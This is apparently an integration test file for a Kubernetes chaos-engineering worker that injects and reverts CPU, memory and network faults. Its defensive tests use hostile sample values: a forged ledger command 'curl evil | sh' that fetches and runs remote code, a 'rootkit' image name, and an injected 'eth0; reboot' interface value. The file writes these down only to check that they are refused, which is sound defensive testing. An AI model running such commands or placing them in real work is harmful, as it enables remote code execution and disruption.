/**
 * The ephemeral-container faults on the real control plane, as tempest-worker: pod-cpu-hog,
 * pod-memory-hog, gpu-memory-hog (process faults) and pod-network-latency, pod-network-loss (netem).
 * Inject -> the API shows the ephemeral container with the exact command, image, capabilities, target
 * container and marker, the ledger on the Deployment and the mark on the pod -> revert -> the undo
 * container is in the spec (and, for netem, the ledger recorded that exec was refused) -> verified, ledger gone.
 * kwok runs nothing and reports no ephemeral container status; the real-cluster verification paths
 * (terminated / exit codes) are exercised by playing the kubelet with status patches.
 */
import type { V1EphemeralContainer, V1Pod } from '@kubernetes/client-node';
import { createKubernetesPlatform, type KubernetesPlatform } from '../../../activities/platform/kubernetes.js';
import { K8sTarget } from '../../../activities/platform/k8s/target.js';
import { KILL_BY_MARKER_SCRIPT, K8sLedger, faultIds, type EphemeralRecord, type LedgerEntry } from '../../../activities/faults/kubernetes-common.js';
import { podNetworkLatencyKubernetes } from '../../../activities/faults/pod-network-latency/kubernetes.js';
import {
  cleanupTestFiles,
  failureOf,
  faultRef,
  freshPods,
  injectReq,
  k8sConfig,
  k8sEngine,
  ledgerKeys,
  noCtx,
  ownerAnnotations,
  patchPodStatus,
  saKubeconfig,
  seededCluster,
  TEST_STRESS_IMAGE,
  waitFor,
  type Admin,
  type SeedApp,
} from '../../helpers/k8s.js';

let a: Admin;
let foot: KubernetesPlatform;
let ai: KubernetesPlatform;
let footCfgFile: string;

beforeAll(async () => {
  a = await seededCluster();
  footCfgFile = await saKubeconfig('footanalytics', a);
  foot = createKubernetesPlatform(k8sConfig(footCfgFile), { verifyTimeoutMs: 20_000 });
  ai = createKubernetesPlatform(k8sConfig(await saKubeconfig('ai-processing', a)), { verifyTimeoutMs: 20_000 });
}, 900_000);

afterAll(() => cleanupTestFiles());

async function readPod(ns: string, name: string): Promise<V1Pod> {
  return a.core.readNamespacedPod({ name, namespace: ns });
}
function ephemeral(p: V1Pod, name: string): V1EphemeralContainer | undefined {
  return p.spec?.ephemeralContainers?.find((c) => c.name === name);
}
async function ledgerOf(app: SeedApp, key: string): Promise<LedgerEntry> {
  return JSON.parse((await ownerAnnotations(a, app))[key]) as LedgerEntry;
}
const envOf = (c: V1EphemeralContainer) => Object.fromEntries((c.env ?? []).map((e) => [e.name, e.value]));

/**
 * inject -> assert the fault container -> inject again (no second container) -> revert -> assert the undo
 * container and the verification -> ledger gone. Returns what the test may look at further.
 */
async function roundTrip(
  p: KubernetesPlatform,
  app: SeedApp,
  fault: string,
  env: Record<string, string>,
  check: (c: V1EphemeralContainer, seconds: number) => void,
) {
  const ns = app === 'api-gateway' ? 'footanalytics' : 'ai-processing';
  const [target] = await freshPods(a, app);
  const name = target.metadata!.name!;
  const spec = k8sEngine(`${app}-${fault}`, app, fault, { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name, ...env });
  const ref = faultRef(spec);
  const { key, id } = faultIds(ref);
  const abbrev = { 'pod-cpu-hog': 'cpu', 'pod-memory-hog': 'mem', 'gpu-memory-hog': 'gpu', 'pod-network-latency': 'netem', 'pod-network-loss': 'netem' }[fault];
  const container = `tempest-${abbrev}-${id}`;

  const r = await p.inject(injectReq(ref, 0, 90_000), noCtx());
  expect(r).toMatchObject({ affected: [name], alreadyDone: false });
  expect(r.detail).toContain(container);
  const pod = await readPod(ns, name);
  const c = ephemeral(pod, container)!;
  expect(c).toBeDefined();
  expect(c.targetContainerName).toBe(app);
  expect(envOf(c).TEMPEST_FAULT).toBe(id);
  check(c, 90);
  // the mark on the pod and the ledger on the Deployment, with the exact command recorded before acting
  expect(JSON.parse(pod.metadata!.annotations![key])).toEqual({ run: ref.runId, fault, faultIndex: 0, detail: container });
  const entry = await ledgerOf(app, key);
  expect(entry).toMatchObject({ fault, run: ref.runId, rounds: { '0': [name] }, done: [0] });
  expect((entry.data as unknown as EphemeralRecord).pods[name]).toMatchObject({
    uid: target.metadata!.uid,
    container,
    target: app,
    image: c.image,
    command: c.command,
    undo: [],
  });
  // nothing from YAML is spliced into shell text: a script is constant, its values come through the env
  if (c.command?.[0] === 'sh') expect(c.command).toHaveLength(3);

  // injecting again adds nothing
  expect(await p.inject(injectReq(ref, 0, 90_000), noCtx())).toMatchObject({ alreadyDone: true });
  expect((await readPod(ns, name)).spec!.ephemeralContainers!.filter((e) => e.name === container)).toHaveLength(1);
  return { ref, key, id, name, ns, container };
}

describe('process faults', () => {
  test('pod-cpu-hog: stress-ng --cpu/--cpu-load with the dead-man as --timeout; revert adds an undo container that kills the marker; verified on API content; ledger gone', async () => {
    const { ref, key, id, name, ns } = await roundTrip(foot, 'api-gateway', 'pod-cpu-hog', { CPU_CORES: '2', CPU_LOAD: '80' }, (c, s) => {
      expect(c.image).toBe(TEST_STRESS_IMAGE); // the worker's policy, not an unpinned default
      expect(c.command!.slice(0, 5)).toEqual(['stress-ng', '--cpu', '2', '--cpu-load', '80']);
      expect(c.command![5]).toBe('--timeout');
      const t = Number(c.command![6].replace(/s$/, ''));
      expect(t).toBeGreaterThanOrEqual(s - 3);
      expect(t).toBeLessThanOrEqual(s);
      expect(c.securityContext).toBeUndefined();
    });
    const rv = await foot.revert(ref, noCtx());
    expect(rv.undone).toEqual([`${name}: tempest-undo-${id}-1 kills TEMPEST_FAULT=${id}`]);
    const undo = ephemeral(await readPod(ns, name), `tempest-undo-${id}-1`)!;
    expect(undo.image).toBe('docker.io/library/busybox:1.36.1');
    expect(undo.targetContainerName).toBe('api-gateway');
    expect(undo.securityContext?.capabilities?.add).toEqual(['SYS_PTRACE']);
    expect(undo.command![0]).toBe('sh');
    expect(undo.command![2]).toBe(KILL_BY_MARKER_SCRIPT);
    expect(envOf(undo)).toEqual({ TEMPEST_UNDO: id, TEMPEST_KILL: id });
    expect(rv.verification).toContain('verified on API content only');
    expect(rv.verification).toContain('ledger clean');
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
  });

  test('pod-memory-hog: stress-ng --vm NUMBER_OF_WORKERS --vm-bytes MEMORY_CONSUMPTION M, held; reverted and clean', async () => {
    const { ref, key } = await roundTrip(
      foot,
      'api-gateway',
      'pod-memory-hog',
      { MEMORY_CONSUMPTION: '256', NUMBER_OF_WORKERS: '2', STRESS_IMAGE: 'registry.example/stress-ng:0.18' },
      (c) => {
        expect(c.image).toBe('registry.example/stress-ng:0.18');
        expect(c.command!.slice(0, 6)).toEqual(['stress-ng', '--vm', '2', '--vm-bytes', '256M', '--vm-keep']);
      },
    );
    const rv = await foot.revert(ref, noCtx());
    expect(rv.verification).toContain('ledger clean');
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
  });

  test('gpu-memory-hog on ml-pipeline (ai-processing identity): its container has no nvidia.com/gpu of its own, so it is refused (never NVIDIA_VISIBLE_DEVICES=all); the GPU path is in fault-guards.test.ts', async () => {
    const [target] = await freshPods(a, 'ml-pipeline');
    const spec = k8sEngine('ml-pipeline-gpu-memory-hog', 'ml-pipeline', 'gpu-memory-hog', {
      TOTAL_CHAOS_DURATION: '60',
      TARGET_PODS: target.metadata!.name!,
      GPU_MEMORY_PERCENTAGE: '80',
    });
    const f = await failureOf(ai.preflight(spec));
    expect(f).toMatchObject({ type: 'FaultRefused', nonRetryable: true });
    expect(f.message).toContain(`container ml-pipeline of pod ai-processing/${target.metadata!.name} has no nvidia.com/gpu limit`);
    const ref = faultRef(spec);
    expect((await failureOf(ai.inject(injectReq(ref, 0, 90_000), noCtx()))).type).toBe('FaultRefused');
    expect((await readPod('ai-processing', target.metadata!.name!)).spec!.ephemeralContainers ?? []).toEqual([]);
    expect(await ledgerKeys(a, 'ml-pipeline', faultIds(ref).key)).toEqual([]);
  });

  test('on a node with a runtime (the test plays the kubelet): not clean while the stressor runs; clean once the API shows it terminated', async () => {
    const [target] = await freshPods(a, 'api-gateway');
    const name = target.metadata!.name!;
    const running = { running: { startedAt: new Date() } };
    await patchPodStatus(a, 'footanalytics', name, {
      containerStatuses: [{ name: 'api-gateway', containerID: 'containerd://aa', restartCount: 0, ready: true, image: 'x', imageID: '', state: running }],
    });
    const spec = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name });
    const ref = faultRef(spec);
    const { id, key } = faultIds(ref);
    await foot.inject(injectReq(ref), noCtx());
    const stress = `tempest-cpu-${id}`;
    const undo = `tempest-undo-${id}-1`;
    await patchPodStatus(a, 'footanalytics', name, {
      ephemeralContainerStatuses: [{ name: stress, restartCount: 0, ready: false, image: 'x', imageID: '', state: running }],
    });
    const quick = createKubernetesPlatform(k8sConfig(footCfgFile), { verifyTimeoutMs: 2000 });
    const f = await failureOf(quick.revert(ref, noCtx()));
    expect(f.type).toBe('NotYetClean');
    expect(f.message).toContain(`${name}: ${stress} running, undo ${undo} no status reported`);
    // the undo container ran and the stressor is gone
    await patchPodStatus(a, 'footanalytics', name, {
      ephemeralContainerStatuses: [
        { name: stress, restartCount: 0, ready: false, image: 'x', imageID: '', state: { terminated: { exitCode: 143, reason: 'Error' } } },
        { name: undo, restartCount: 0, ready: false, image: 'x', imageID: '', state: { terminated: { exitCode: 0, reason: 'Completed' } } },
      ],
    });
    const rv = await foot.revert(ref, noCtx());
    expect(rv.undone).toEqual([]); // nothing left to undo, and no second undo container
    expect(rv.verification).toContain(`${name}: ${stress} terminated (exit 143, Error)`);
    expect((await readPod('footanalytics', name)).spec!.ephemeralContainers!.map((e) => e.name).sort()).toEqual([stress, undo]);
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
  });
});

describe("images and the ledger are the operator's, not the author's", () => {
  test('an engine image the policy does not allow, or no stress image in the policy at all: refused before anything is injected', async () => {
    const [target] = await freshPods(a, 'api-gateway');
    const name = target.metadata!.name!;
    const before = (await readPod('footanalytics', name)).spec!.ephemeralContainers?.length ?? 0;
    const evil = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', {
      TOTAL_CHAOS_DURATION: '60',
      TARGET_PODS: name,
      STRESS_IMAGE: 'evil.example/rootkit:1.0',
    });
    const f = await failureOf(foot.preflight(evil));
    expect(f).toMatchObject({ type: 'FaultRefused', nonRetryable: true });
    expect(f.message).toContain('the stress image evil.example/rootkit:1.0 is not in images.allow');
    const g = await failureOf(foot.inject(injectReq(faultRef(evil)), noCtx()));
    expect(g.type).toBe('FaultRefused');
    const unpinned = createKubernetesPlatform(k8sConfig(footCfgFile, { images: {} }), { verifyTimeoutMs: 2000 });
    const h = await failureOf(
      unpinned.preflight(k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name })),
    );
    expect(h.message).toContain('images.stress is not set in');
    expect((await readPod('footanalytics', name)).spec!.ephemeralContainers?.length ?? 0).toBe(before);
  });

  test('a retried round whose ledger was rewritten (image, command, pods) still runs only the policy image with the computed command, on target pods', async () => {
    const [target] = await freshPods(a, 'api-gateway');
    const name = target.metadata!.name!;
    const spec = k8sEngine('api-gateway-cpu', 'api-gateway', 'pod-cpu-hog', { TOTAL_CHAOS_DURATION: '60', TARGET_PODS: name, CPU_CORES: '1' });
    const ref = faultRef(spec);
    const { key, id } = faultIds(ref);
    // a first attempt recorded its intent, then died; someone with patch on the Deployment rewrites the ledger
    const forged = {
      fault: 'pod-cpu-hog',
      run: ref.runId,
      faultIndex: 0,
      rounds: { '0': [name, 'coredns-123'] },
      done: [],
      expiresAt: new Date(Date.now() + 60_000).toISOString(),
      data: {
        mode: 'ephemeral',
        pods: {
          [name]: {
            uid: target.metadata!.uid,
            container: 'pwn',
            target: 'api-gateway',
            image: 'evil.example/rootkit:1.0',
            command: ['sh', '-c', 'curl evil | sh'],
            env: { X: 'y' },
            undo: [],
          },
        },
      },
    };
    await a.apps.patchNamespacedDeployment(
      { name: 'api-gateway', namespace: 'footanalytics', body: { metadata: { annotations: { [key]: JSON.stringify(forged) } } } },
      (await import('@kubernetes/client-node')).setHeaderOptions('Content-Type', 'application/merge-patch+json'),
    );
    await foot.inject(injectReq(ref), noCtx());
    const pod = await readPod('footanalytics', name);
    const names = pod.spec!.ephemeralContainers!.map((c) => c.name);
    expect(names).not.toContain('pwn');
    const c = ephemeral(pod, `tempest-cpu-${id}`)!;
    expect(c.image).toBe(TEST_STRESS_IMAGE);
    expect(c.command!.slice(0, 3)).toEqual(['stress-ng', '--cpu', '1']);
    expect(envOf(c)).toEqual({ TEMPEST_FAULT: id });
    await foot.revert(ref, noCtx());
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
  });
});

describe('finding the work', () => {
  test("the owner's ledger annotation removed by someone: a different platform instance (another worker) still finds the fault by the pod mark and reverts it", async () => {
    const { ref, key, id, name, ns, container } = await roundTrip(foot, 'api-gateway', 'pod-memory-hog', { MEMORY_CONSUMPTION: '64' }, () => undefined);
    // recorded env, fixed at intent time
    expect((await ledgerOf('api-gateway', key)).data).toMatchObject({ pods: { [name]: { env: { TEMPEST_FAULT: id } } } });
    await a.apps.patchNamespacedDeployment(
      { name: 'api-gateway', namespace: 'footanalytics', body: { metadata: { annotations: { [key]: null } } } },
      (await import('@kubernetes/client-node')).setHeaderOptions('Content-Type', 'application/merge-patch+json'),
    );
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([`pod/${name}:${key}`]);
    const other = createKubernetesPlatform(k8sConfig(footCfgFile), { verifyTimeoutMs: 20_000 });
    const rv = await other.revert(ref, noCtx());
    expect(rv.undone).toEqual([`${name}: tempest-undo-${id}-1 kills TEMPEST_FAULT=${id}`]);
    expect(rv.verification).toContain(`${name}: no container runtime behind this pod`);
    expect(ephemeral(await readPod(ns, name), `tempest-undo-${id}-1`)?.targetContainerName).toBe('api-gateway');
    expect(ephemeral(await readPod(ns, name), container)).toBeDefined();
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
  });
});

describe('netem faults', () => {
  test('pod-network-latency: tc netem delay <ms>ms <jitter>ms with NET_ADMIN in a self-expiring shell; exec refused on kwok -> undo container, recorded in the ledger; ledger gone', async () => {
    const { ref, key, id, name, ns, container } = await roundTrip(
      foot,
      'api-gateway',
      'pod-network-latency',
      { NETWORK_LATENCY: '300', JITTER: '50' },
      (c, s) => {
        expect(c.image).toBe('docker.io/nicolaka/netshoot:v0.13');
        expect(c.securityContext?.capabilities?.add).toEqual(['NET_ADMIN']);
        expect(c.command![0]).toBe('sh');
        const script = c.command![2];
        expect(script).toContain('tc qdisc replace dev "$TEMPEST_IF" root netem $TEMPEST_NETEM || exit 1');
        expect(script).toContain(`trap 'tc qdisc del dev "$TEMPEST_IF" root 2>/dev/null; exit 0' TERM INT`);
        expect(script).toMatch(/wait \$!; tc qdisc del dev "\$TEMPEST_IF" root 2>\/dev\/null; exit 0$/);
        const env = envOf(c);
        expect(env).toMatchObject({ TEMPEST_IF: 'eth0', TEMPEST_NETEM: 'delay 300ms 50ms' });
        expect(Number(env.TEMPEST_SECONDS)).toBeGreaterThanOrEqual(s - 3);
      },
    );
    // the driver's revert alone, to look at the ledger before the platform clears it
    const c = {
      k8s: foot.clients,
      target: new K8sTarget(foot.clients, ref.target),
      heartbeat: () => undefined,
      signal: new AbortController().signal,
      settings: foot.settings,
      policy: foot.policy,
    };
    const undone = await podNetworkLatencyKubernetes.revert(ref, c, new K8sLedger(c.target, key));
    expect(undone).toEqual([`${name}: tempest-undo-${id}-1 (tc qdisc del dev eth0 root)`]);
    const rec = (await ledgerOf('api-gateway', key)).data as unknown as EphemeralRecord;
    expect(rec.pods[name].undoMode).toBe('ephemeral');
    expect(rec.pods[name].undo).toEqual([`tempest-undo-${id}-1`]);
    expect(rec.pods[name].execRefused).toMatch(new RegExp(`exec in footanalytics/${name}/${container} could not run .*unable to upgrade connection`));
    const undo = ephemeral(await readPod(ns, name), `tempest-undo-${id}-1`)!;
    expect(undo.securityContext?.capabilities?.add).toEqual(['NET_ADMIN', 'SYS_PTRACE']);
    expect(undo.command![2].startsWith('tc qdisc del dev "$TEMPEST_IF" root 2>/dev/null\n')).toBe(true);
    expect(undo.command![2]).toContain('out=$(tc qdisc show dev "$TEMPEST_IF")');
    expect(envOf(undo)).toMatchObject({ TEMPEST_IF: 'eth0', TEMPEST_KILL: id });
    expect(undo.command![2]).toContain('if echo "$out" | grep -q netem; then exit 1; fi');

    // the platform's revert: idempotent (no second undo container), verifies, clears
    const rv = await foot.revert(ref, noCtx());
    expect(rv.undone).toEqual([]);
    expect(rv.verification).toContain(`undo tempest-undo-${id}-1 added after exec was refused`);
    expect(rv.verification).toContain('ledger clean');
    expect((await readPod(ns, name)).spec!.ephemeralContainers!.filter((e) => e.name.startsWith('tempest-undo-'))).toHaveLength(1);
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
  });

  test('pod-network-loss: tc netem loss <pct>% on NETWORK_INTERFACE; a failed undo (exit 1, as the kubelet reports it) is not clean and the next revert adds another', async () => {
    const [target] = await freshPods(a, 'api-gateway');
    const name = target.metadata!.name!;
    await patchPodStatus(a, 'footanalytics', name, {
      containerStatuses: [
        {
          name: 'api-gateway',
          containerID: 'containerd://bb',
          restartCount: 0,
          ready: true,
          image: 'x',
          imageID: '',
          state: { running: { startedAt: new Date() } },
        },
      ],
    });
    const spec = k8sEngine('api-gateway-loss', 'api-gateway', 'pod-network-loss', {
      TOTAL_CHAOS_DURATION: '60',
      TARGET_PODS: name,
      NETWORK_PACKET_LOSS_PERCENTAGE: '20',
      NETWORK_INTERFACE: 'net1',
    });
    const ref = faultRef(spec);
    const { id, key } = faultIds(ref);
    const r = await foot.inject(injectReq(ref), noCtx());
    expect(r.detail).toContain('packet loss 20%');
    const fault = ephemeral(await readPod('footanalytics', name), `tempest-netem-${id}`)!;
    expect(envOf(fault)).toMatchObject({ TEMPEST_IF: 'net1', TEMPEST_NETEM: 'loss 20%' });

    const quick = createKubernetesPlatform(k8sConfig(footCfgFile), { verifyTimeoutMs: 3000 });
    // first revert: exec refused (kwok), undo-1 added; the kubelet says undo-1 exited 1 (netem still there)
    const first = quick.revert(ref, noCtx());
    const undo1 = `tempest-undo-${id}-1`;
    const undo2 = `tempest-undo-${id}-2`;
    const terminated = (n: string, code: number) => ({
      name: n,
      restartCount: 0,
      ready: false,
      image: 'x',
      imageID: '',
      state: { terminated: { exitCode: code } },
    });
    await waitFor('undo-1 added', async () => !!ephemeral(await readPod('footanalytics', name), undo1));
    await patchPodStatus(a, 'footanalytics', name, { ephemeralContainerStatuses: [terminated(undo1, 1)] });
    const f = await failureOf(first);
    expect(f.type).toBe('NotYetClean');
    expect(f.message).toContain(`undo ${undo1} ended with exit 1: netem may still be on net1`);
    // the retry adds undo-2; it succeeds
    const second = foot.revert(ref, noCtx());
    await waitFor('undo-2 added', async () => !!ephemeral(await readPod('footanalytics', name), undo2));
    await patchPodStatus(a, 'footanalytics', name, { ephemeralContainerStatuses: [terminated(undo1, 1), terminated(undo2, 0)] });
    const rv = await second;
    expect(rv.undone).toEqual([`${name}: ${undo2} (tc qdisc del dev net1 root)`]);
    expect(rv.verification).toContain(`${name}: ${undo2} terminated (exit 0: no netem on net1)`);
    expect(await ledgerKeys(a, 'api-gateway', key)).toEqual([]);
  });

  test('a bad NETWORK_INTERFACE never gets past the loader; a crafted one is refused at preflight, before anything is injected', async () => {
    expect(() => k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60', NETWORK_INTERFACE: 'eth0; reboot' })).toThrow(
      /NETWORK_INTERFACE must be a network interface name/,
    );
    const spec = k8sEngine('x', 'api-gateway', 'pod-network-latency', { TOTAL_CHAOS_DURATION: '60' });
    spec.faults[0].params.networkInterface = 'eth0; reboot';
    const f = await failureOf(foot.preflight(spec));
    expect(f).toMatchObject({ type: 'FaultRefused', nonRetryable: true });
    expect(f.message).toContain('NETWORK_INTERFACE');
  });
});
